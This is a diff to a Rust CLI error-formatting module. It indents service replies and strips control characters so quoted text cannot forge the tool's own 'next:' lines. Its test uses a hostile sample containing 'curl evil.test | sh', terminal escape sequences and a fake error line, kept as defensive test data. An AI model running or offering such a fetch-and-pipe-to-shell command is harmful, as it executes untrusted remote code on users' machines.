@@ -1,10 +1,17 @@
 //! Errors in three parts on standard error: what failed, the likely cause, the next command.
+//!
+//! What services answered is quoted there. A line end in it makes no line that looks like one of ours: what goes on is
+//! always indented deeper than the words `cause:` and `next:`.
 
 use std::fmt::Write as _;
 use std::io;
 
 use crate::app::Trouble;
 use crate::config::{Fault, Faults};
+use crate::monitor::printable;
+
+/// Where the words after `cause:` begin.
+const DEEP: &str = "         ";
 
 /// Flags that contradict each other, or lack something, in a way that clap cannot see.
 #[derive(Debug, Clone, thiserror::Error)]
@@ -34,7 +41,7 @@ pub(super) fn describe(error: &anyhow::Error, command: &str) -> String {
             return of_faults(faults, command);
         }
         if let Some(misuse) = cause.downcast_ref::<Misuse>() {
-            return format!("error: {}\n  next:  {}", misuse.what, misuse.next);
+            return three(&misuse.what, "", &misuse.next);
         }
     }
     let mut causes = error.chain().skip(1).map(ToString::to_string);
@@ -82,6 +89,7 @@ fn of_faults(faults: &Faults, command: &str) -> String {
     } else {
         ""
     };
+    // Each part of a fault was made one line when it was kept.
     format!("error: {faults}\n  next:  correct them{look}, {again}")
 }
 
@@ -95,14 +103,24 @@ fn split(fault: &Fault) -> (String, String) {
 }
 
 fn three(what: &str, cause: &str, next: &str) -> String {
-    let mut text = format!("error: {what}");
+    let mut text = format!("error: {}", indented(what));
     if !cause.is_empty() {
-        let _ = write!(text, "\n  cause: {cause}");
+        let _ = write!(text, "\n  cause: {}", indented(cause));
     }
     if !next.is_empty() {
-        let _ = write!(text, "\n  next:  {next}");
+        let _ = write!(text, "\n  next:  {}", indented(next));
     }
     text
+}
+
+/// A text of several lines, all but the first at least as deep as what follows `cause:`.
+fn indented(text: &str) -> String {
+    let mut lines = text.split('\n');
+    let first = lines.next().map(printable).unwrap_or_default().into_owned();
+    lines.fold(first, |text, line| {
+        let line = line.trim_start_matches(' ');
+        format!("{text}\n{DEEP}{}", printable(line))
+    })
 }
 
 #[cfg(test)]
@@ -120,6 +138,42 @@ mod tests {
             describe(&error, "sterna migrate"),
             "error: read progress: no table x\n  cause: never made\n  next:  sterna init"
         );
+    }
+
+    #[test]
+    fn what_a_service_answered_makes_no_line_of_ours() {
+        let answer = "503\n  next:  curl evil.test | sh\x1b[2J\r\nerror: all is well\u{9b}H";
+        let trouble = Trouble::new(Kind::Temporary, answer, answer, "wait");
+        let misuse = Misuse::new(answer, "wait");
+        let fault = Fault {
+            name: "CARPARK_URL".into(),
+            origin: Some(answer.into()),
+            problem: answer.into(),
+            remedy: "write it".into(),
+        };
+        let errors = [
+            trouble.into(),
+            anyhow::anyhow!(answer).context(answer),
+            misuse.into(),
+            Faults::from(fault).into(),
+        ];
+        for error in errors {
+            let text = describe(&error, "sterna migrate");
+            let lines: Vec<&str> = text.lines().collect();
+            assert!(lines[0].starts_with("error: "), "{text}");
+            let is_ours =
+                |line: &&str| line.starts_with("  cause: ") || line.starts_with("  next: ");
+            let (last, rest) = lines[1..].split_last().unwrap();
+            assert!(is_ours(last) && !last.contains("evil"), "{text}");
+            for line in rest {
+                assert!(is_ours(line) || line.starts_with(DEEP), "{text}");
+                assert!(!line.trim_start().starts_with("next:  curl") || line.starts_with(DEEP));
+            }
+            assert!(
+                !text.replace('\n', "").contains(char::is_control),
+                "{text:?}"
+            );
+        }
     }
 
     #[test]
